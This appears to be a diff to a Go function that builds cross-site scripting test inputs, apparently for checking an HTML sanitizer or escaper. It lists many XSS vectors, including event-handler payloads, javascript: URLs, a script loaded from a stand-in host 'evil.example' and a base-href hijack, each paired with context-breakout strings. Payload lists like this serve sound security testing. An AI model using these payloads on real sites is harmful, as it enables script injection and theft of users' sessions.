@@ -30,7 +30,7 @@ func scriptTexts() (list []string) {
 	ways := []string{"<script>%</script>", "<img src=x onerror=%>", "<svg onload=%>", "<svg/onload=%>", "<script src=//evil.example></script>", "<iframe srcdoc='<script>%</script>'>",
 		"<a href=javascript:%>x</a>", "<input autofocus onfocus=%>", "<details open ontoggle=%>", "<style onload=%></style>", "<video><source onerror=%>", "<body onload=%>",
 		"<object data=javascript:%>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0,javascript:%>", "<ScRiPt>%</sCrIpT>", "<math><mtext><img src=x onerror=%>",
-		" autofocus onfocus=% x=", "javascript:%", "<form><button formaction=javascript:%>x"}
+		"x autofocus onfocus=% x=", "javascript:%", "<form><button formaction=javascript:%>x"}
 	outs := []string{"", `">`, `'>`, "</title>", "</textarea>", "</script>", "-->", `"`, "'", "{{"}
 	for i := range ways {
 		for j, out := range outs { // the first few have each way out, and many ways
